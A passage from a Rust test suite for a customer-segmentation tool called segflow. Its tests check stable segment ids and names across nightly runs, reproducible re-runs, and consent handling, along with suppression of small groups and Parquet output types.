        later.manifest["counts"]["ideal_customers"].as_u64().unwrap() > 0,
        "{text}"
    );
}

#[test]
fn segment_ids_and_names_are_stable_across_nights() {
    let dir = tempfile::tempdir().unwrap();
    let day1 = date("2024-06-30");
    let s1 = write_sales(
        dir.path(),
        "sales/order_month=2024-06/s1.parquet",
        "s1",
        &three_groups(day1, &[]),
    );
    let first = run(
        &inputs(vec![s1.clone()], vec![], None),
        &checked("2024-06-30", None),
        &dir.path().join("n1"),
    )
    .unwrap();

    // Next night: a few customers bought again on July 1.
    let new_lines = vec![
        l("a00-new", "a00", "2024-07-01", "p1", 1.0, 150.0),
        l("m00-new", "m00", "2024-07-01", "p4", 1.0, 80.0),
        l("b00-new", "b00", "2024-07-01", "p5", 1.0, 12.0),
    ];
    let s2 = write_sales(
        dir.path(),
        "sales/order_month=2024-07/s2.parquet",
        "s2",
        &new_lines,
    );
    let second = run(
        &inputs(vec![s1, s2], vec![], Some(first.state.clone())),
        &checked("2024-07-01", None),
        &dir.path().join("n2"),
    )
    .unwrap();
    assert_eq!(second.manifest["clustering"]["k_chosen_by"], "previous");
    assert_eq!(second.manifest["clustering"]["previous_state"], "continued");
    assert_eq!(second.state.k, first.state.k);
    let pairs = |s: &ModelState| {
        s.segments
            .iter()
            .map(|x| (x.id, x.name.clone()))
            .collect::<Vec<_>>()
    };
    assert_eq!(pairs(&second.state), pairs(&first.state));

    let before = by_id(read_csv(&dir.path().join("n1/customers.csv")));
    let after = by_id(read_csv(&dir.path().join("n2/customers.csv")));
    let changed = ["a00", "m00", "b00"];
    let mut compared = 0;
    for (id, row) in &before {
        if changed.contains(&id.as_str()) {
            continue;
        }
        let now = &after[id];
        assert_eq!(
            (&now["segment_id"], &now["segment_name"]),
            (&row["segment_id"], &row["segment_name"]),
            "{id}"
        );
        compared += 1;
    }
    assert_eq!(compared, 57);

    // Asking for another k: clusters are matched to the previous ones, unmatched get new ids.
    let third = run(
        &inputs(
            vec![dir.path().join("sales/order_month=2024-06/s1.parquet")],
            vec![],
            Some(first.state.clone()),
        ),
        &checked("2024-06-30", Some(if first.state.k == 2 { 3 } else { 2 })),
        &dir.path().join("n3"),
    )
    .unwrap();
    assert_eq!(third.manifest["clustering"]["previous_state"], "matched");
    let old: HashMap<u32, Option<String>> = first
        .state
        .segments
        .iter()
        .map(|s| (s.id, s.name.clone()))
        .collect();
    let max_old = *old.keys().max().unwrap();
    for s in &third.state.segments {
        match old.get(&s.id) {
            Some(name) => assert_eq!(&s.name, name),
            None => assert!(s.id > max_old),
        }
    }
}

/// Published (id, name) pairs and whether their figures were withheld, from `segments.csv`.
fn published_names(out: &Path) -> Vec<(u32, String, bool)> {
    read_csv(&out.join("segments.csv"))
        .iter()
        .map(|r| {
            (
                r["segment_id"].parse().unwrap(),
                r["segment_name"].clone(),
                r["suppressed"] == "true",
            )
        })
        .collect()
}

/// A segment whose figures are withheld is published as "Segment <id>", a placeholder that is
/// not a name: once its figures are published it gets the descriptive name a new model would
/// give it, and keeps that name from then on, through a night hidden again too.
#[test]
fn a_placeholder_name_gives_way_to_a_descriptive_one_that_then_stays() {
    let dir = tempfile::tempdir().unwrap();
    let sales = write_sales(
        dir.path(),
        "sales/order_month=2024-06/s1.parquet",
        "s1",
        &three_groups(date("2024-06-30"), &[]),
    );
    let night = |as_of: &str, min_group_size: usize, previous: Option<ModelState>, out: &str| {
        let mut p = SegmentParams::new(date(as_of));
        p.k = Some(3);
        p.min_group_size = min_group_size;
        let out = dir.path().join(out);
        let run = run(
            &inputs(vec![sales.clone()], vec![], previous),
            &p.check().unwrap(),
            &out,
        )
        .unwrap();
        (run, published_names(&out))
    };
    let placeholder = |id: u32| format!("Segment {id}");
    // A young shop: every segment under the minimum, all figures withheld.
    let (first, names1) = night("2024-06-30", 50, None, "n1");
    assert_eq!(names1.len(), 3);
    for (id, name, hidden) in &names1 {
        assert!(*hidden && *name == placeholder(*id), "{names1:?}");
    }
    // The state saves no name for them (`null`), not the placeholder.
    assert!(
        first.state.segments.iter().all(|s| s.name.is_none()),
        "{:?}",
        first.state
    );
    let saved = serde_json::to_value(&first.state).unwrap();
    assert!(saved["segments"][0]["name"].is_null(), "{saved}");
    // The next night the segments reach the minimum: descriptive names, continued ids.
    let (second, names2) = night("2024-07-01", 10, Some(first.state.clone()), "n2");
    assert_eq!(second.manifest["clustering"]["previous_state"], "continued");
    let ids = |n: &[(u32, String, bool)]| n.iter().map(|x| x.0).collect::<Vec<_>>();
    assert_eq!(ids(&names2), ids(&names1));
    let mut distinct = std::collections::BTreeSet::new();
    for (id, name, hidden) in &names2 {
        assert!(!*hidden && *name != placeholder(*id), "{names2:?}");
        assert!(!name.starts_with("Segment "), "{names2:?}");
        assert!(distinct.insert(name.clone()), "{names2:?}");
    }
    // The descriptive names stay.
    let (third, names3) = night("2024-07-02", 10, Some(second.state.clone()), "n3");
    assert_eq!(names3, names2);
    // Hidden for a night: published under the placeholder, the name is kept for later.
    let (fourth, names4) = night("2024-07-03", 50, Some(third.state.clone()), "n4");
    for (id, name, hidden) in &names4 {
        assert!(*hidden && *name == placeholder(*id), "{names4:?}");
    }
    let kept: Vec<Option<String>> = names2.iter().map(|n| Some(n.1.clone())).collect();
    let saved: Vec<Option<String>> = fourth.state.segments.iter().map(|s| s.name.clone()).collect();
    assert_eq!(saved, kept);
    let (_, names5) = night("2024-07-04", 10, Some(fourth.state.clone()), "n5");
    assert_eq!(names5, names2);

    // A state an older segflow saved holds the placeholders as names: read as no name.
    let mut old = serde_json::to_value(&first.state).unwrap();
    for s in old["segments"].as_array_mut().unwrap() {
        s["name"] = format!("Segment {}", s["id"]).into();
    }
    let old = serde_json::to_vec(&old).unwrap();
    let Previous::Use(old) = Previous::from_saved(Some(&old), date("2024-07-01")) else {
        panic!("the older state is usable");
    };
    assert_eq!(old.segments[0].name.as_deref(), Some("Segment 1"));
    let (_, names2_old) = night("2024-07-01", 10, Some(old), "n2-old");
    assert_eq!(names2_old, names2);
}

/// A night run again (a retried schedule, a re-run after a fix) starts from the state the night
/// was given, not from its own result: same ids, figures, files and state, byte for byte. A look
/// back to an earlier date never starts from a state that knows later orders.
#[test]
fn a_rerun_of_a_night_reproduces_it_and_a_look_back_ignores_later_states() {
    let dir = tempfile::tempdir().unwrap();
    let day1 = date("2024-06-30");
    let s1 = write_sales(
        dir.path(),
        "sales/order_month=2024-06/s1.parquet",
        "s1",
        &three_groups(day1, &[l("late", "a00", "2024-07-01", "p1", 1.0, 150.0)]),
    );
    let night = |as_of: &str, saved: Option<&ModelState>, out: &str| {
        let bytes = saved.map(|s| serde_json::to_vec_pretty(s).unwrap());
        let inputs = SegmentInputs {
            previous: Previous::from_saved(bytes.as_deref(), date(as_of)),
            ..inputs(vec![s1.clone()], vec![], None)
        };
        run(&inputs, &checked(as_of, None), &dir.path().join(out)).unwrap()
    };
    let first = night("2024-06-30", None, "n1");
    let second = night("2024-07-01", Some(&first.state), "n2");
    assert_eq!(second.manifest["clustering"]["previous_state"], "continued");
    let again = night("2024-07-01", Some(&second.state), "n2b");
    assert_eq!(again.state, second.state);
    for f in &second.files {
        let a = std::fs::read(dir.path().join("n2").join(f)).unwrap();
        let b = std::fs::read(dir.path().join("n2b").join(f)).unwrap();
        assert!(a == b, "{f} differs on the re-run");
    }
    // The state saved on 1 July keeps the one of 30 June it was given, which a look back to
    // 30 June may not use either: it is that date's own result.
    let back = night("2024-06-30", Some(&second.state), "b1");
    assert_eq!(back.manifest["clustering"]["previous_state"], "ignored");
    assert_eq!(
        back.manifest["clustering"]["previous_state_note"],
        "the saved state is from a run dated 2024-07-01, after this run's date"
    );
    let fresh = std::fs::read(dir.path().join("n1/customers.csv")).unwrap();
    assert!(std::fs::read(dir.path().join("b1/customers.csv")).unwrap() == fresh);
    // A look back to a date after the state it was given starts from that one.
    let between = Previous::from_saved(
        Some(
            &serde_json::to_vec(&ModelState {
                as_of: "2024-07-05".into(),
                ..second.state.clone()
            })
            .unwrap(),
        ),
        date("2024-07-01"),
    );
    assert_eq!(between, Previous::Use(first.state.clone()));
}

/// A saved state that cannot be used says why in the manifest, not only in a log line: ids may
/// have been renumbered.
#[test]
fn an_unusable_saved_state_is_reported_as_ignored() {
    let dir = tempfile::tempdir().unwrap();
    let s1 = write_sales(
        dir.path(),
        "s1.parquet",
        "s1",
        &three_groups(date("2024-06-30"), &[]),
    );
    let first = run(
        &inputs(vec![s1.clone()], vec![], None),
        &checked("2024-06-30", None),
        &dir.path().join("n1"),
    )
    .unwrap();
    let mut twins = first.state.clone();
    twins.segments[1].id = twins.segments[0].id;
    let mut huge = first.state.clone();
    huge.segments[0].id = 3_000_000_000;
    let cases: [(Vec<u8>, &str); 4] = [
        (b"{not json".to_vec(), "the saved state cannot be read"),
        (
            serde_json::to_vec(&ModelState {
                state_version: 99,
                ..first.state.clone()
            })
            .unwrap(),
            "the saved state is of version 99, this segflow reads version 1",
        ),
        (
            serde_json::to_vec(&twins).unwrap(),
            "previous state is malformed: two segments have id",
        ),
        // Published as int32: a larger id read one way in the CSV and another in the Parquet.
        (
            serde_json::to_vec(&huge).unwrap(),
            "the saved state's segment id 3000000000 is out of range",
        ),
    ];
    for (i, (bytes, says)) in cases.iter().enumerate() {
        let inputs = SegmentInputs {
            previous: Previous::from_saved(Some(bytes), date("2024-07-01")),
            ..inputs(vec![s1.clone()], vec![], None)
        };
        let out = run(
            &inputs,
            &checked("2024-07-01", None),
            &dir.path().join(format!("o{i}")),
        )
        .unwrap();
        let c = &out.manifest["clustering"];
        assert_eq!(c["previous_state"], "ignored", "{says}");
        assert!(
            c["previous_state_note"].as_str().unwrap().starts_with(says),
            "{c}"
        );
    }
}

/// A file mixing lines with product ids and lines that name their product only: a named product
/// bought three times is one product, however the file tells whether some line lacks an id
/// (statistics; the count ingest writes in the metadata; nothing, as from another tool).
#[test]
fn named_lines_beside_coded_ones_count_by_name() {
    let mut lines = vec![
        l("o1", "c1", "2024-06-01", "p1", 1.0, 10.0),
        l("o2", "c1", "2024-06-03", "", 1.0, 5.0).named("Tea"),
        l("o3", "c1", "2024-06-05", "", 1.0, 5.0).named("Tea"),
        l("o4", "c1", "2024-06-07", "", 1.0, 5.0).named("Tea"),
    ];
    lines.extend((2..6).map(|i| l(&format!("x{i}"), &format!("c{i}"), "2024-06-02", "p1", 1.0, 10.0)));
    let dir = tempfile::tempdir().unwrap();
    let by_writer = |rel: &str, lines: &[Line]| {
        let batch = sales_batch("s1", lines);
        let mut w =
            crate::ingest::writer::PartitionedWriter::new(dir.path(), rel, None, "s.parquet", batch.schema())
                .for_source("s1");
        w.write(&batch, &[]).unwrap();
        w.finish().unwrap().remove(0).path
    };
    let files = [
        ("statistics", write_sales(dir.path(), "a.parquet", "s1", &lines)),
        (
            "no statistics",
            write_sales_with(
                dir.path(),
                "b.parquet",
                "s1",
                &lines,
                crate::ingest::writer::curated_writer_properties(Some("s1")),
            ),
        ),
        ("ingest's writer", by_writer("c", &lines)),
    ];
    for (how, sales) in files {
        let out = dir.path().join(format!("out-{how}"));
        run_k2(sales, &out);
        let rows = by_id(read_csv(&out.join("customers.csv")));
        assert_eq!(rows["c1"]["distinct_products"], "2", "{how}");
    }
    // The count: 3 lines without an id, and 0 in a file where every line has one, which is
    // then read without its names.
    let count = |path: &Path| {
        let r = ParquetRecordBatchReaderBuilder::try_new(std::fs::File::open(path).unwrap()).unwrap();
        r.metadata()
            .file_metadata()
            .key_value_metadata()
            .unwrap()
            .iter()
            .find(|e| e.key == crate::ingest::writer::PRODUCT_ID_NULLS_METADATA)
            .and_then(|e| e.value.clone())
    };
    assert_eq!(count(&by_writer("d", &lines)).as_deref(), Some("3"));
    assert_eq!(count(&by_writer("e", &lines[..1])).as_deref(), Some("0"));
}

/// A shop that numbers its orders `C1001` refunds `C1002` by its status and by a refund line: the
/// two are set against the order, which went back once. In UCI's export, where `C` numbers are
/// cancellation invoices of their own, no purchase line has such a number (ingest's writer counts
/// them in each file's metadata), and the returns stay no order's.
#[test]
fn a_shop_numbering_its_orders_with_c_refunds_an_order_once() {
    let mut lines = vec![
        l("C1001", "c1", "2024-06-01", "p1", 1.0, 100.0),
        l("C1002", "c1", "2024-06-05", "p2", 1.0, 50.0).with_status("refunded"),
        l("C1002", "c1", "2024-06-07", "p2", -1.0, -50.0),
    ];
    lines.extend(four_others("2024-06-02"));
    let dir = tempfile::tempdir().unwrap();
    let batch = sales_batch("s1", &lines);
    let mut w =
        crate::ingest::writer::PartitionedWriter::new(dir.path(), "c", None, "s.parquet", batch.schema())
            .for_source("s1");
    w.write(&batch, &[]).unwrap();
    let sales = w.finish().unwrap().remove(0).path;
    let meta = ParquetRecordBatchReaderBuilder::try_new(std::fs::File::open(&sales).unwrap()).unwrap();
    let count = meta
        .metadata()
        .file_metadata()
        .key_value_metadata()
        .unwrap()
        .iter()
        .find(|e| e.key == crate::ingest::writer::C_NUMBERED_ORDERS_METADATA)
        .and_then(|e| e.value.clone());
    assert_eq!(count.as_deref(), Some("1"), "C1001's line; C1002's are returns");
    let out = dir.path().join("out");
    run_k2(sales, &out);
    let rows = by_id(read_csv(&out.join("customers.csv")));
    assert_eq!(rows["c1"]["monetary"], "100.00", "C1002 refunded once");
    // The same lines in a file whose metadata counts none: UCI's meaning, each return on its own.
    let uci = write_sales(dir.path(), "uci.parquet", "s1", &lines);
    let out = dir.path().join("out-uci");
    run_k2(uci, &out);
    let rows = by_id(read_csv(&out.join("customers.csv")));
    assert_eq!(rows["c1"]["monetary"], "50.00");
    // The refund line in a file of its own (another month, another upload), which counts no
    // C-numbered sale: the shop's numbers are order numbers in every file of the run.
    let (sales, refund) = lines.split_at(2);
    let by_writer = |name: &str, lines: &[Line]| {
        let batch = sales_batch("s1", lines);
        let mut w = crate::ingest::writer::PartitionedWriter::new(
            dir.path(),
            name,
            None,
            "s.parquet",
            batch.schema(),
        )
        .for_source(name);
        w.write(&batch, &[]).unwrap();
        w.finish().unwrap().remove(0).path
    };
    let files = vec![by_writer("a", sales), by_writer("b", refund)];
    let out = dir.path().join("out-apart");
    run(
        &inputs(files, vec![], None),
        &checked("2024-06-30", Some(2)),
        &out,
    )
    .unwrap();
    let rows = by_id(read_csv(&out.join("customers.csv")));
    assert_eq!(rows["c1"]["monetary"], "100.00", "C1002 refunded once");
}

/// The customers dataset fills in a country or city the orders do not give, but not one beside
/// another place the orders give: its Iranian city is no city of a customer whose orders are
/// German, nor its Iran the country of orders from Berlin.
#[test]
fn the_customer_lists_place_fills_in_only_where_it_agrees_with_the_orders() {
    let dir = tempfile::tempdir().unwrap();
    let lines = vec![
        l("o1", "k1", "2024-06-01", "p1", 1.0, 10.0).at("DE", ""),
        l("o2", "k2", "2024-06-01", "p1", 1.0, 10.0).at("", ""),
        l("o3", "k3", "2024-06-01", "p1", 1.0, 10.0).at("IR", ""),
        l("o4", "k4", "2024-06-01", "p1", 1.0, 10.0).at("", "Berlin"),
    ];
    let sales = write_sales(dir.path(), "s.parquet", "s1", &lines);
    // Every record of the list is in Iran ("IR"), in Shiraz.
    let people: Vec<CustRow> = ["k1", "k2", "k3", "k4"]
        .map(|id| (id, None, None, "", "Shiraz", "", None, None))
        .to_vec();
    let customers = write_customers(dir.path(), "c.parquet", &people);
    let out = dir.path().join("out");
    run(
        &inputs(vec![sales], vec![customers], None),
        &checked("2024-06-30", Some(2)),
        &out,
    )
    .unwrap();
    let rows = by_id(read_csv(&out.join("customers.csv")));
    let place = |id: &str| (rows[id]["main_country"].as_str(), rows[id]["main_city"].as_str());
    assert_eq!(place("k1"), ("Germany", ""));
    assert_eq!(place("k2"), ("Iran", "Shiraz"));
    assert_eq!(place("k3"), ("Iran", "Shiraz"));
    assert_eq!(place("k4"), ("", "Berlin"));
}

/// A product known by its name only, written with Arabic yeh in one export (a windows-1256 row,
/// «چاي سبز») and Persian yeh in another, is one product: one distinct product, and the two
/// lines of an order are one product, not a multi-item order.
#[test]
fn a_products_name_in_arabic_and_persian_letters_is_one_product() {
    let dir = tempfile::tempdir().unwrap();
    let mut lines = vec![
        l("o1", "c1", "2024-06-01", "", 1.0, 10.0).named("چاي سبز"),
        l("o1", "c1", "2024-06-01", "", 1.0, 10.0).named("چای سبز"),
        l("o2", "c1", "2024-06-05", "", 1.0, 10.0).named("چای سبز"),
    ];
    lines.extend((2..6).map(|i| l(&format!("x{i}"), &format!("c{i}"), "2024-06-02", "p1", 1.0, 10.0)));
    let sales = write_sales(dir.path(), "s.parquet", "s1", &lines);
    let out = dir.path().join("out");
    run_k2(sales, &out);
    let rows = by_id(read_csv(&out.join("customers.csv")));
    assert_eq!(rows["c1"]["distinct_products"], "1");
    assert_eq!(rows["c1"]["multi_item_share"], "0.000");
}

#[test]
fn params_are_checked() {
    let base = || SegmentParams::new(date("2024-06-30"));
    let err = |p: SegmentParams| match p.check() {
        Err(SegmentError::InvalidParams(m)) => m,
        Err(e) => panic!("wrong error {e}"),
        Ok(_) => panic!("accepted"),
    };
    assert!(base().check().is_ok());
    assert!(err(SegmentParams { k: Some(1), ..base() }).contains("k must be"));
    assert!(
        err(SegmentParams {
            k: Some(11),
            ..base()
        })
        .contains("k must be")
    );
    assert!(
        SegmentParams {
            k: Some(10),
            ..base()
        }
        .check()
        .is_ok()
    );
    assert!(err(SegmentParams { n_runs: 0, ..base() }).contains("n_runs"));
    assert!(
        err(SegmentParams {
            at_risk_factor: 0.0,
            ..base()
        })
        .contains("at_risk_factor")
    );
    assert!(
        err(SegmentParams {
            at_risk_factor: f64::NAN,
            ..base()
        })
        .contains("at_risk_factor")
    );
    assert!(
        err(SegmentParams {
            lapsed_days: 0,
            ..base()
        })
        .contains("lapsed_days")
    );
    assert!(
        err(SegmentParams {
            sample_size: 99,
            ..base()
        })
        .contains("sample_size")
    );
    assert!(
        err(SegmentParams {
            rfm_rules: vec![],
            ..base()
        })
        .contains("no RFM rules")
    );
    let mut rules = default_rfm_rules();
    rules.retain(|r| r.name != "Need Attention");
    assert!(
        err(SegmentParams {
            rfm_rules: rules,
            ..base()
        })
        .contains("R3F3")
    );
    let bad_range = vec![RfmRule {
        name: "All".into(),
        r: (0, 5),
        f: (1, 5),
    }];
    assert!(
        err(SegmentParams {
            rfm_rules: bad_range,
            ..base()
        })
        .contains("R scores 0-5")
    );
    let catch_all = vec![RfmRule {
        name: "All".into(),
        r: (1, 5),
        f: (1, 5),
    }];
    assert!(
        SegmentParams {
            rfm_rules: catch_all,
            ..base()
        }
        .check()
        .is_ok()
    );
}

#[test]
fn default_rules_cover_the_grid() {
    let rules = default_rfm_rules();
    assert!(rfm::check_rules(&rules).is_ok());
    let name = |r, f| rules[rfm::group_of(&rules, r, f).unwrap()].name.as_str();
    // Rows r = 5 (top) down to 1, columns f = 1..5.
    let grid: Vec<Vec<&str>> = (1..=5u8)
        .rev()
        .map(|r| (1..=5u8).map(|f| name(r, f)).collect())
        .collect();
    assert_eq!(
        grid[0],
        [
            "New",
            "Potential Loyalist",
            "Potential Loyalist",
            "Champions",
            "Champions"
        ]
    );
    assert_eq!(
        grid[1],
        [
            "Promising",
            "Potential Loyalist",
            "Potential Loyalist",
            "Loyal",
            "Loyal"
        ]
    );
    assert_eq!(
        grid[2],
        [
            "About to Sleep",
            "About to Sleep",
            "Need Attention",
            "Loyal",
            "Loyal"
        ]
    );
    assert_eq!(
        grid[3],
        [
            "Hibernating",
            "Hibernating",
            "At Risk",
            "At Risk",
            "Can't Lose Them"
        ]
    );
    assert_eq!(
        grid[4],
        ["Lost", "Hibernating", "At Risk", "At Risk", "Can't Lose Them"]
    );
}

#[test]
fn no_data_fails_clearly_and_writes_nothing() {
    let dir = tempfile::tempdir().unwrap();
    let out = dir.path().join("out");
    let p = checked("2024-06-30", None);
    let no_data = |r: Result<SegmentRun, SegmentError>| match r {
        Err(SegmentError::NoData(m)) => m,
        Err(e) => panic!("wrong error {e}"),
        Ok(_) => panic!("succeeded"),
    };
    assert!(no_data(run(&inputs(vec![], vec![], None), &p, &out)).contains("no sales files"));
    let late = write_sales(
        dir.path(),
        "late.parquet",
        "s1",
        &[l("o1", "c1", "2024-07-02", "p1", 1.0, 10.0)],
    );
    let m = no_data(run(&inputs(vec![late], vec![], None), &p, &out));
    assert!(
        m.contains("no usable sales rows on or before 2024-06-30") && m.contains("1 after"),
        "{m}"
    );
    let empty = write_sales(dir.path(), "empty.parquet", "s1", &[]);
    assert!(no_data(run(&inputs(vec![empty], vec![], None), &p, &out)).contains("no usable sales rows"));
    let few: Vec<Line> = (0..3)
        .map(|i| {
            l(
                ["o1", "o2", "o3"][i],
                ["c1", "c2", "c3"][i],
                "2024-06-01",
                "p1",
                1.0,
                10.0,
            )
        })
        .collect();
    let few = write_sales(dir.path(), "few.parquet", "s1", &few);
    let m = no_data(run(&inputs(vec![few.clone()], vec![], None), &p, &out));
    assert!(
        m.contains("only 3 customers with purchases") && m.contains("at least 4"),
        "{m}"
    );
    let m = no_data(run(
        &inputs(vec![few], vec![], None),
        &checked("2024-06-30", Some(5)),
        &out,
    ));
    assert!(m.contains("at least 10"), "{m}");
    assert!(!out.exists(), "nothing written");
}

/// `sales` segmented with k = 2 as of 2024-06-30 into `out`.
fn run_k2(sales: PathBuf, out: &Path) {
    run(
        &inputs(vec![sales], vec![], None),
        &checked("2024-06-30", Some(2)),
        out,
    )
    .unwrap();
}

/// The golden lines segmented by [`run_k2`]; the output folder.
fn golden_run(dir: &Path) -> PathBuf {
    let sales = write_sales(dir, "s.parquet", "s1", &golden_lines());
    let out = dir.join("out");
    run_k2(sales, &out);
    out
}

/// customers.parquet is encoded in two steps (most columns beside the ideal-customer profile, the
/// consent and the fit once the lists decide them): its bytes are still those one `ArrowWriter`
/// writes from its rows.
#[test]
fn customers_parquet_is_what_one_writer_writes_from_its_rows() {
    let dir = tempfile::tempdir().unwrap();
    let out = golden_run(dir.path());
    let path = out.join("customers.parquet");
    let reader = ParquetRecordBatchReaderBuilder::try_new(std::fs::File::open(&path).unwrap()).unwrap();
    let schema = reader.schema().clone();
    let names: Vec<&str> = schema.fields().iter().map(|f| f.name().as_str()).collect();
    assert_eq!(
        names[names.len() - 2..],
        ["marketing_consent", "ideal_fit"],
        "the late columns are last"
    );
    let batches: Vec<RecordBatch> = reader.build().unwrap().map(Result::unwrap).collect();
    let fits = batches[0].column_by_name("ideal_fit").unwrap();
    assert!(fits.null_count() < fits.len(), "fits were written");
    let mut again = Vec::new();
    let mut w = ArrowWriter::try_new(&mut again, schema, Some(output::customers_properties())).unwrap();
    for b in &batches {
        w.write(b).unwrap();
    }
    w.close().unwrap();
    assert_eq!(std::fs::read(&path).unwrap(), again);
}

#[test]
fn customers_parquet_has_the_documented_types() {
    let dir = tempfile::tempdir().unwrap();
    let out = golden_run(dir.path());
    let builder =
        ParquetRecordBatchReaderBuilder::try_new(std::fs::File::open(out.join("customers.parquet")).unwrap())
            .unwrap();
    let schema = builder.schema().clone();
    let ty = |n: &str| schema.field_with_name(n).unwrap().data_type().clone();
    for n in [
        "customer_id",
        "segment_name",
        "rfm_code",
        "rfm_group",
        "lifecycle_stage",
        "preferred_weekday",
        "main_city",
        "age_band",
    ] {
        assert_eq!(ty(n), DataType::Utf8, "{n}");
    }
    for n in ["segment_id", "rfm_r", "rfm_f", "rfm_m"] {
        assert_eq!(ty(n), DataType::Int32, "{n}");
    }
    for n in ["frequency", "distinct_products"] {
        assert_eq!(ty(n), DataType::Int64, "{n}");
    }
    for n in [
        "recency_days",
        "monetary",
        "avg_order_value",
        "tenure_days",
        "days_between_orders",
        "items_per_order",
        "return_rate",
        "ideal_fit",
    ] {
        assert_eq!(ty(n), DataType::Float64, "{n}");
    }
    assert_eq!(ty("first_purchase"), DataType::Date32);
    assert_eq!(ty("last_purchase"), DataType::Date32);
    assert_eq!(ty("marketing_consent"), DataType::Boolean);
    assert_eq!(schema.fields().len(), 30);
    let batches: Vec<RecordBatch> = builder.build().unwrap().collect::<Result<_, _>>().unwrap();
    let ids = batches[0]
        .column(0)
        .as_any()
        .downcast_ref::<StringArray>()
        .unwrap();
    assert_eq!(ids.len(), 10);
    assert!(
        ids.iter().flatten().collect::<Vec<_>>().is_sorted(),
        "sorted by customer id"
    );
    let monetary = batches[0]
        .column_by_name("monetary")
        .unwrap()
        .as_any()
        .downcast_ref::<Float64Array>()
        .unwrap();
    assert_eq!(monetary.value(2), 300.0, "c03, full precision in Parquet");
}

#[test]
fn small_segments_are_suppressed_but_listed() {
    let dir = tempfile::tempdir().unwrap();
    let sales = write_sales(dir.path(), "s.parquet", "s1", &golden_lines());
    let mut p = SegmentParams::new(date("2024-06-30"));
    p.k = Some(3);
    p.min_group_size = 100;
    let out = dir.path().join("out");
    run(&inputs(vec![sales], vec![], None), &p.check().unwrap(), &out).unwrap();
    let segs = read_json(&out.join("segments.json"));
    let list = segs["segments"].as_array().unwrap();
    assert_eq!(list.len(), 3);
    for s in list {
        assert_eq!(s["suppressed"], true);
        assert!(s["revenue_share"].is_null() && s["profile"]["median_monetary"].is_null());
        assert!(s["customers"].as_u64().is_some() && s["name"].as_str().is_some());
    }
    let csv = read_csv(&out.join("segments.csv"));
    assert!(
        csv.iter()
            .all(|r| r["suppressed"] == "true" && r["median_monetary"].is_empty())
    );
}

#[test]
fn a_stale_yes_in_another_export_does_not_undo_a_refusal() {
    let dir = tempfile::tempdir().unwrap();
    let sales = write_sales(dir.path(), "s.parquet", "s1", &golden_lines());
    // Curated files are named by source, so the newer export may well sort first.
    let newer = write_customers(
        dir.path(),
        "customers/a.parquet",
        &[("c06", Some(20), None, "", "", "", None, Some(false))],
    );
    let older = write_customers(
        dir.path(),
        "customers/b.parquet",
        &[("c06", Some(39), None, "", "", "", None, Some(true))],
    );
    let out = dir.path().join("out");
    run(
        &inputs(vec![sales], vec![older, newer], None),
        &checked("2024-06-30", Some(2)),
        &out,
    )
    .unwrap();
    let customers = read_csv(&out.join("customers.csv"));
    let c06 = customers.iter().find(|r| r["customer_id"] == "c06").unwrap();
    assert_eq!(c06["marketing_consent"], "false");
    // The other attributes still come from the last row read.
    assert_eq!(c06["age_band"], "35-44");
    for list in ["winback.csv", "ideal_customers.csv"] {
        assert!(
            read_csv(&out.join(list))
                .iter()
                .all(|r| r.values().all(|v| v != "c06")),
            "{list}"
        );
    }
    // c06 is lapsed and worth more than the median: on the win-back list when it may be contacted.
    let (yes, no_refusal) = (
        write_customers(
            dir.path(),
            "c2/a.parquet",
            &[("c06", None, None, "", "", "", None, Some(true))],
        ),
        dir.path().join("out2"),
    );
    let sales = dir.path().join("s.parquet");
    run(
        &inputs(vec![sales], vec![yes], None),
        &checked("2024-06-30", Some(2)),
        &no_refusal,
    )
    .unwrap();
    assert!(
        read_csv(&no_refusal.join("winback.csv"))
            .iter()
            .any(|r| r["customer_id"] == "c06")
    );
}

#[test]
fn a_thinner_export_read_later_does_not_erase_attributes() {
    let dir = tempfile::tempdir().unwrap();
    let sales = write_sales(dir.path(), "s.parquet", "s1", &golden_lines());
    let full = write_customers(
        dir.path(),
        "customers/a.parquet",
        &[("c06", Some(39), None, "female", "Shiraz", "CEO", None, Some(true))],
    );
    // A newsletter export read after it: no age, gender, city or job title columns.
    let thin = write_customers(
        dir.path(),
        "customers/z.parquet",
        &[("c06", None, None, "", "", "", None, None)],
    );
    let out = dir.path().join("out");
    run(
        &inputs(vec![sales], vec![full, thin], None),
        &checked("2024-06-30", Some(2)),
        &out,
    )
    .unwrap();
    let customers = read_csv(&out.join("customers.csv"));
    let c06 = customers.iter().find(|r| r["customer_id"] == "c06").unwrap();
    assert_eq!(
        [
            &c06["age_band"],
            &c06["gender"],
            &c06["job_title"],
            &c06["marketing_consent"]
        ],
        ["35-44", "female", "CEO", "true"]
    );
}

/// When all but a few purchasers are in the ideal group, the profile's group-against-base
/// figures and trait counts would describe those few: it is withheld, and so are the ranking
/// values of segments segments.csv withholds. (The top segments never make such a group: a best
/// segment of 15 of the 20 purchasers gives its 6 most valuable customers; RFM groups can.)
#[test]
fn the_profile_does_not_give_away_the_few_outside_the_ideal_group() {
    let dir = tempfile::tempdir().unwrap();
    let mut lines = tight_group("big", 15, 6, 500.0, 3);
    lines.extend(tight_group("low", 5, 1, 20.0, 200));
    let sales = write_sales(dir.path(), "s.parquet", "s1", &lines);
    let mut p = SegmentParams::new(date("2024-06-30"));
    p.k = Some(2);
    p.min_group_size = 6;
    let out = dir.path().join("out");
    run(
        &inputs(vec![sales.clone()], vec![], None),
        &p.clone().check().unwrap(),
        &out,
    )
    .unwrap();
    let icp = read_json(&out.join("ideal_customer_profile.json"));
    assert_eq!(icp["ideal_rule"]["rule"]["kind"], "top_of_segment", "{icp:#}");
    assert_eq!(icp["ideal"]["customers"], 6, "{icp:#}");
    for seg in icp["ideal_rule"]["rule"]["ranking"].as_array().unwrap() {
        assert!(seg["value"].is_null(), "{seg}");
    }
    let customers = read_csv(&out.join("customers.csv"));
    let groups = |prefix: &str| -> std::collections::BTreeSet<String> {
        customers
            .iter()
            .filter(|r| r["customer_id"].starts_with(prefix))
            .map(|r| r["rfm_group"].clone())
            .collect()
    };
    assert!(groups("big").is_disjoint(&groups("low")));
    p.ideal_rule = IdealRule::RfmGroups(groups("big").into_iter().collect());
    let out = dir.path().join("rfm");
    run(&inputs(vec![sales], vec![], None), &p.check().unwrap(), &out).unwrap();
    let icp = read_json(&out.join("ideal_customer_profile.json"));
    assert_eq!(icp["ideal"]["customers"], 15, "{icp:#}");
    assert_eq!(icp["ideal"]["suppressed"], true);
    assert!(icp["ideal"]["figures"].is_null());
    assert!(icp["ideal"]["traits"].as_array().unwrap().is_empty());
    let md = std::fs::read_to_string(out.join("ideal_customer_profile.md")).unwrap();
    assert!(md.contains("All but 5 of the 20 customers"), "{md}");
